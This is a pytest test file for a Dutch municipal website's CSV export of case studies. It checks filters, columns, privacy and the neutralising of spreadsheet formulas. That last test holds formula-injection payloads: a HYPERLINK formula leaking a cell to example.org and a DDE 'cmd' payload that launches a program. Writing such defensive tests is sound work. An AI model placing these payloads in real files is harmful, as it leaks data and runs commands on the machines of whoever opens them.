"""The case-study listing's results as a spreadsheet (CSV): the same filters and pages as the
listing, columns a municipality can use, nothing that a spreadsheet would run as a formula."""

import csv
import io

from django.utils import translation

from wagtail.models import PageViewRestriction

import pytest
from bs4 import BeautifulSoup

from casestudies.download import spreadsheet_safe
from casestudies.models import CaseStudyIndexPage, CaseStudyPage, CaseStudyPartner
from limburg.models import Organisation, PartnerPage, Place, Theme
from tests.casestudies.test_listing import UNKNOWN_VALUES

pytestmark = pytest.mark.django_db

URL = "/nl/praktijkvoorbeelden/"
CSV_URL = URL + "csv/"


def rows(response):
    """The CSV as a list of dicts, after checking what Excel needs to open it in columns."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))


def csv_titles(response):
    return sorted(row["Titel"] for row in rows(response))


def listing_titles(client, url, params):
    """Every title of the listing as filtered, all its pages followed."""
    titles, number = [], 1
    while True:
        response = client.get(url, {**params, "page": number})
        soup = BeautifulSoup(response.content, "html.parser")
        titles += [a.get_text(strip=True) for a in soup.select(".lp-teaser__title a")]
        if not soup.select_one("nav.utrecht-pagination a[rel=next]"):
            return titles
        number += 1


def translated(message, language="nl"):
    with translation.override(language):
        return translation.gettext(message)


# Filters, combinations, search: the file and the listing give the same case studies.
FILTER_CASES = [
    ({}, ["Alpha", "Bravo", "Charlie", "Delta"]),
    ({"theme": "gezondheid"}, ["Alpha", "Bravo"]),
    ({"gemeente": "GM0928"}, ["Bravo"]),  # through its wijk Kerkrade-Oost
    ({"theme": "gezondheid", "gemeente": "GM0917"}, ["Alpha"]),
    ({"theme": "leren", "gemeente": "GM0917"}, []),
    ({"instrument": "nplv"}, ["Alpha", "Delta"]),
    ({"lessons": "on"}, ["Bravo"]),
    ({"kind": "gebiedsaanpak", "status": "intentieovereenkomst"}, ["Bravo"]),
    ({"query": "Charlie"}, ["Charlie"]),
]


def test_the_download_holds_what_the_listing_shows(client, studies):
    for params, expected in FILTER_CASES:
        assert csv_titles(client.get(CSV_URL, params)) == expected, params
        assert sorted(listing_titles(client, URL, params)) == expected, params


def test_every_result_in_the_listings_order_pinned_first(client, empty_index, make_case_study):
    studies = [make_case_study(f"Studie {index:02d}", themes=["wonen"]) for index in range(14)]
    # More than one listing page: the file has them all, sorted as asked.
    response = client.get(CSV_URL, {"theme": "wonen", "sort": "title"})
    assert [row["Titel"] for row in rows(response)] == [f"Studie {i:02d}" for i in range(14)]
    # The default order puts what editors pinned first, in the listing and in the file.
    studies[7].pinned = True
    studies[7].save_revision().publish()
    listed = listing_titles(client, URL, {})
    assert listed[0] == "Studie 07"
    assert [row["Titel"] for row in rows(client.get(CSV_URL))] == listed


def test_columns_a_municipality_can_use_and_nothing_personal(client, studies, locale_nl):
    alpha = studies["a"]
    CaseStudyPartner.objects.create(
        page=alpha,
        organisation=Organisation.objects.get(locale=locale_nl, name="Gemeente Heerlen"),
        locale=locale_nl,
    )
    alpha.contact_name = "Jan Contactpersoon"
    alpha.contact_role = "Wijkcoördinator"
    alpha.contact_email = "jan@example.org"
    alpha.save_revision().publish()

    response = client.get(CSV_URL)
    assert response["Content-Disposition"] == 'attachment; filename="praktijkvoorbeelden.csv"'
    by_title = {row["Titel"]: row for row in rows(response)}
    bravo = by_title["Bravo"]
    assert list(bravo) == [
        "Titel",
        "Webadres",
        "Soort",
        "Status",
        translated("Municipalities"),
        "Plaatsen",
        translated("CBS codes"),
        "Thema's",
        "Startjaar",
        "Eindjaar",
        "Samenvatting",
        "Partners",
        "Financiering",
        "Laatst gecontroleerd",
    ]
    assert bravo["Webadres"] == "http://testserver/nl/praktijkvoorbeelden/bravo/"
    assert bravo["Soort"] == "gebiedsaanpak"
    assert bravo["Status"] == "intentieovereenkomst"
    # The wijk it is about, and the gemeente that wijk lies in.
    assert bravo[translated("Municipalities")] == "Kerkrade"
    assert bravo["Plaatsen"] == "Wijk 01 Kerkrade-Oost"
    assert bravo[translated("CBS codes")] == "WK092801"
    assert bravo["Thema's"] == "Gezondheid, Wonen"
    assert (bravo["Startjaar"], bravo["Eindjaar"]) == ("2025", "")
    assert bravo["Samenvatting"] == "Samenvatting van Bravo."
    assert bravo["Laatst gecontroleerd"] == studies["b"].last_checked.isoformat()

    assert by_title["Alpha"]["Partners"] == "Gemeente Heerlen"
    assert by_title["Alpha"]["Financiering"] == alpha.funding.get().instrument.name
    assert (by_title["Charlie"]["Startjaar"], by_title["Charlie"]["Eindjaar"]) == ("2012", "2020")
    # A province-wide programme lies in no gemeente.
    assert by_title["Delta"][translated("Municipalities")] == ""
    assert by_title["Delta"]["Plaatsen"] == "Limburg"

    content = response.content.decode()
    assert "Jan Contactpersoon" not in content
    assert "jan@example.org" not in content
    assert "Wijkcoördinator" not in content


def test_the_english_listing_gives_english_headers_and_pages(client, studies, locale_en):
    # An untranslated Dutch case study sits in the synchronised English tree as an alias:
    # whatever the English listing shows of it, the file shows too.
    english_index = CaseStudyIndexPage.objects.get(locale=locale_en)
    studies["a"].create_alias(parent=english_index, update_locale=locale_en)
    everything = rows(client.get("/en/case-studies/csv/"))
    assert sorted(row["Title"] for row in everything) == sorted(
        listing_titles(client, "/en/case-studies/", {})
    )
    assert "Alpha" in {row["Title"] for row in everything}

    response = client.get("/en/case-studies/csv/", {"theme": "health"})
    assert response["Content-Disposition"] == 'attachment; filename="case-studies.csv"'
    english = rows(response)
    assert list(english[0])[:4] == ["Title", "Web address", "Kind", "Status"]
    assert all(row["Web address"].startswith("http://testserver/en/") for row in english)
    assert sorted(row["Title"] for row in english) == sorted(
        listing_titles(client, "/en/case-studies/", {"theme": "health"})
    )
    assert "Positieve Gezondheid in Limburg" in {row["Title"] for row in english}


def test_only_what_the_listing_shows(client, studies, make_case_study, index_nl, locale_nl):
    draft = CaseStudyPage(
        title="Concept",
        locale=locale_nl,
        kind="project",
        status="lopend",
        summary="Nog niet.",
        live=False,
    )
    index_nl.add_child(instance=draft)
    draft.save_revision()
    private = make_case_study("Alleen na inloggen")
    PageViewRestriction.objects.create(page=private, restriction_type="login")
    secret = make_case_study("Met wachtwoord")
    PageViewRestriction.objects.create(page=secret, restriction_type="password", password="x")
    withdrawn = make_case_study("Ingetrokken")
    withdrawn.unpublish()
    # A partner writes in its own section: the listing shows it, and so does the file.
    partner = PartnerPage.objects.get(locale=locale_nl, organisation__name="Gemeente Kerkrade")
    in_section = CaseStudyPage(
        title="Van de partner",
        locale=locale_nl,
        kind="project",
        status="lopend",
        summary="Geschreven door Kerkrade.",
    )
    partner.add_child(instance=in_section)
    in_section.themes.set(Theme.objects.filter(locale=locale_nl, slug="wonen"))
    in_section.places.set(Place.objects.filter(code="GM0928"))
    in_section.save_revision().publish()

    expected = ["Alpha", "Bravo", "Charlie", "Delta", "Van de partner"]
    assert csv_titles(client.get(CSV_URL)) == expected
    assert sorted(listing_titles(client, URL, {})) == expected


FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"klik")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "  =1+1",
    "\t=1+1",
]


def test_cells_that_would_be_formulas_stay_text(client, empty_index, make_case_study):
    for title in FORMULAS:
        make_case_study(title, summary="=cmd|' /C calc'!A0")
    found = rows(client.get(CSV_URL))
    assert len(found) == len(FORMULAS)
    assert sorted(row["Titel"].lstrip("' \t") for row in found) == sorted(
        title.strip() for title in FORMULAS
    )
    for row in found:
        assert row["Titel"].startswith("'"), row["Titel"]
        assert row["Samenvatting"] == "'=cmd|' /C calc'!A0"


def test_spreadsheet_safe_leaves_ordinary_text_and_numbers_alone():
    assert spreadsheet_safe("Gebiedsaanpak Heerlen-Noord") == "Gebiedsaanpak Heerlen-Noord"
    assert spreadsheet_safe("e-mail: a@b.nl") == "e-mail: a@b.nl"
    assert spreadsheet_safe(2019) == 2019
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe("Regel\x0been") == "Regel een"


def test_unknown_filter_values_are_a_clear_400_not_an_error(client):
    for params in UNKNOWN_VALUES:
        response = client.get(CSV_URL, params)
        assert response.status_code == 400, params
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        assert "Content-Disposition" not in response
        assert "Sommige filters konden niet worden gebruikt" in response.content.decode()
    # Values the listing takes in its stride give a file.
    for params in [{"page": "abc"}, {"query": "\x0b\ufffe"}, {"query": '"' * 5}, {"lessons": "ja"}]:
        assert client.get(URL, params).status_code == 200, params
        rows(client.get(CSV_URL, params))
    # Only for reading.
    assert client.post(CSV_URL, {"theme": "wonen"}).status_code == 405


def test_the_listing_links_to_its_results_with_its_filters(client, studies):
    response = client.get(URL, {"theme": "gezondheid", "gemeente": "GM0917", "page": "1"})
    link = BeautifulSoup(response.content, "html.parser").select_one("a[href*='/csv/']")
    assert link["href"] == "/nl/praktijkvoorbeelden/csv/?theme=gezondheid&gemeente=GM0917"
    assert link.get_text(strip=True) == translated("Download these results (CSV)")
    assert csv_titles(client.get(link["href"])) == ["Alpha"]

    # Search and sort go along; a value the listing did not understand does not.
    response = client.get(
        URL, {"query": "Bravo", "lessons": "on", "sort": "title", "kind": "verzonnen"}
    )
    assert response.status_code == 400
    link = BeautifulSoup(response.content, "html.parser").select_one("a[href*='/csv/']")
    assert link["href"] == "/nl/praktijkvoorbeelden/csv/?query=Bravo&lessons=on&sort=title"
    assert csv_titles(client.get(link["href"])) == ["Bravo"]

    # Nothing to download, no link.
    response = client.get(URL, {"theme": "leren", "gemeente": "GM0917"})
    assert not BeautifulSoup(response.content, "html.parser").select("a[href*='/csv/']")


def test_query_count_does_not_grow_with_the_case_studies(
    client, empty_index, make_case_study, count_queries, django_assert_max_num_queries
):
    def add(number, start=0):
        for index in range(start, start + number):
            make_case_study(
                f"Studie {index}",
                themes=["wonen", "leren"],
                places=[["GM0917"], ["WK091720"], ["WK091720", "GM0935"]][index % 3],
                instrument="nplv",
            )

    def download():
        response = client.get(CSV_URL, {"theme": "wonen", "gemeente": "GM0917"})
        assert response.status_code == 200
        return response

    add(3)
    download()  # warm the site caches
    few = count_queries(download)
    add(20, start=3)
    many = count_queries(download)
    # One query per relation the columns read (themes, places, partners, funding), not
    # one per case study.
    assert many == few
    # Routing and the filter form's choices (about ten), the results, four relations.
    with django_assert_max_num_queries(18):
        response = download()
    assert len(rows(response)) == 23
